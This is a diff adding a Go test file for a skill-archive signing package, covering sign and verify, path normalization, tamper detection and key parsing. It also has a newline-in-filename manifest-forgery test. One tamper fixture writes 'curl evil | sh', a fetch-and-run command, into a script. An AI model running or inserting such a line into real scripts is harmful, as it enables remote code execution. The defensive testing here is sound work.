@@ -0,0 +1,240 @@
+package signing
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"testing"
+
+	"github.com/devs-group/skillbox/internal/store"
+)
+
+// buildZip returns a zip archive of files, written in the given order.
+func buildZip(t *testing.T, files ...[2]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	w := zip.NewWriter(&buf)
+	for _, f := range files {
+		fw, err := w.Create(f[0])
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := fw.Write([]byte(f[1])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func reader(t *testing.T, data []byte) *zip.Reader {
+	t.Helper()
+	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return zr
+}
+
+func testKeys(t *testing.T) (privPEM, pubPEM []byte) {
+	t.Helper()
+	privPEM, pubPEM, err := GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return privPEM, pubPEM
+}
+
+func TestSignVerify(t *testing.T) {
+	privPEM, pubPEM := testKeys(t)
+	priv, err := ParsePrivateKey(privPEM)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pub, err := ParsePublicKey(pubPEM)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data := buildZip(t, [2]string{"SKILL.md", "---\nname: x\n---\n"}, [2]string{"scripts/main.py", "print(1)\n"})
+	signed, sig, err := Sign(data, priv)
+	if err != nil {
+		t.Fatalf("Sign: %v", err)
+	}
+	if sig.KeyID != KeyID(pub) {
+		t.Errorf("key id = %s, want %s", sig.KeyID, KeyID(pub))
+	}
+
+	zr := reader(t, signed)
+	got, err := Extract(zr)
+	if err != nil || got == nil {
+		t.Fatalf("Extract = %v, %v", got, err)
+	}
+	if *got != *sig {
+		t.Errorf("extracted %+v, want %+v", got, sig)
+	}
+	if err := Verify(zr, got, pub); err != nil {
+		t.Errorf("Verify: %v", err)
+	}
+}
+
+func TestVerify_Normalization(t *testing.T) {
+	privPEM, pubPEM := testKeys(t)
+	priv, _ := ParsePrivateKey(privPEM)
+	pub, _ := ParsePublicKey(pubPEM)
+
+	// Signed inside a wrapper directory with a junk file ...
+	data := buildZip(t,
+		[2]string{"demo/SKILL.md", "skill"},
+		[2]string{"demo/run.sh", "echo hi"},
+		[2]string{"demo/.DS_Store", "junk"},
+	)
+	signed, _, err := Sign(data, priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sig, err := Extract(reader(t, signed))
+	if err != nil || sig == nil {
+		t.Fatalf("Extract = %v, %v", sig, err)
+	}
+
+	// ... and verified after the server moved the files to the root,
+	// dropped the junk and reordered the entries.
+	normalized := buildZip(t,
+		[2]string{"run.sh", "echo hi"},
+		[2]string{SignatureFile, "ignored"},
+		[2]string{"SKILL.md", "skill"},
+	)
+	if err := Verify(reader(t, normalized), sig, pub); err != nil {
+		t.Errorf("Verify after normalization: %v", err)
+	}
+}
+
+func TestVerify_Tampered(t *testing.T) {
+	privPEM, pubPEM := testKeys(t)
+	priv, _ := ParsePrivateKey(privPEM)
+	pub, _ := ParsePublicKey(pubPEM)
+
+	signed, sig, err := Sign(buildZip(t, [2]string{"SKILL.md", "skill"}, [2]string{"run.sh", "echo hi"}), priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := map[string][]byte{
+		"modified file": buildZip(t, [2]string{"SKILL.md", "skill"}, [2]string{"run.sh", "curl evil | sh"}),
+		"added file":    buildZip(t, [2]string{"SKILL.md", "skill"}, [2]string{"run.sh", "echo hi"}, [2]string{"x.sh", "x"}),
+		"removed file":  buildZip(t, [2]string{"SKILL.md", "skill"}),
+	}
+	for name, data := range tests {
+		t.Run(name, func(t *testing.T) {
+			if err := Verify(reader(t, data), sig, pub); !errors.Is(err, ErrInvalidSignature) {
+				t.Errorf("Verify = %v, want ErrInvalidSignature", err)
+			}
+		})
+	}
+
+	_, otherPEM := testKeys(t)
+	other, _ := ParsePublicKey(otherPEM)
+	if err := Verify(reader(t, signed), sig, other); !errors.Is(err, ErrInvalidSignature) {
+		t.Errorf("Verify with another key = %v, want ErrInvalidSignature", err)
+	}
+}
+
+// TestVerify_ManifestForgery checks that an entry name with a newline cannot
+// pose as further lines of the digest manifest.
+func TestVerify_ManifestForgery(t *testing.T) {
+	privPEM, pubPEM := testKeys(t)
+	priv, _ := ParsePrivateKey(privPEM)
+	pub, _ := ParsePublicKey(pubPEM)
+
+	guard, main := "check_inputs()\n", "run()\n"
+	_, sig, err := Sign(buildZip(t,
+		[2]string{"SKILL.md", "skill"},
+		[2]string{"scripts/guard.py", guard},
+		[2]string{"scripts/main.py", main},
+	), priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// One entry holding guard.py's bytes whose name spells out both
+	// manifest lines; main.py is gone.
+	mainSum := sha256.Sum256([]byte(main))
+	forgedName := "scripts/guard.py\n" + hex.EncodeToString(mainSum[:]) + "  scripts/main.py"
+	forged := reader(t, buildZip(t, [2]string{"SKILL.md", "skill"}, [2]string{forgedName, guard}))
+
+	if _, err := Digest(forged); err == nil {
+		t.Error("Digest accepted an entry name with a newline")
+	}
+	if err := Verify(forged, sig, pub); err == nil {
+		t.Error("Verify accepted a forged manifest")
+	}
+}
+
+func TestParseKeys_Errors(t *testing.T) {
+	privPEM, pubPEM := testKeys(t)
+	if _, err := ParsePrivateKey(pubPEM); err == nil {
+		t.Error("expected error parsing a public key as private")
+	}
+	if _, err := ParsePublicKey(privPEM); err == nil {
+		t.Error("expected error parsing a private key as public")
+	}
+	if _, err := ParsePublicKey([]byte("not pem")); err == nil {
+		t.Error("expected error for non-PEM input")
+	}
+}
+
+// fakeKeys is a KeyStore for one tenant.
+type fakeKeys struct {
+	keys     map[string]string // key id -> PEM
+	required bool
+}
+
+func (f *fakeKeys) GetPublisherKey(_ context.Context, tenantID, keyID string) (*store.PublisherKey, error) {
+	pem, ok := f.keys[keyID]
+	if !ok {
+		return nil, store.ErrNotFound
+	}
+	return &store.PublisherKey{TenantID: tenantID, KeyID: keyID, PublicKey: pem}, nil
+}
+
+func (f *fakeKeys) RequireSignedSkills(context.Context, string) (bool, error) {
+	return f.required, nil
+}
+
+func TestVerifier(t *testing.T) {
+	privPEM, pubPEM := testKeys(t)
+	priv, _ := ParsePrivateKey(privPEM)
+	pub, _ := ParsePublicKey(pubPEM)
+
+	unsigned := buildZip(t, [2]string{"SKILL.md", "skill"})
+	signed, _, err := Sign(unsigned, priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+
+	keys := &fakeKeys{keys: map[string]string{}}
+	v := NewVerifier(keys)
+
+	if sig, err := v.VerifySkill(ctx, "t1", unsigned); sig != nil || err != nil {
+		t.Errorf("unsigned, not required: %v, %v", sig, err)
+	}
+	if _, err := v.VerifySkill(ctx, "t1", signed); !errors.Is(err, ErrUntrustedKey) {
+		t.Errorf("untrusted key: %v", err)
+	}
+
+	keys.keys[KeyID(pub)] = string(pubPEM)
+	keys.required = true
+	if sig, err := v.VerifySkill(ctx, "t1", signed); err != nil || sig == nil {
+		t.Errorf("trusted key: %v, %v", sig, err)
+	}
+	if _, err := v.VerifySkill(ctx, "t1", unsigned); !errors.Is(err, ErrUnsigned) {
+		t.Errorf("unsigned, required: %v", err)
+	}
+}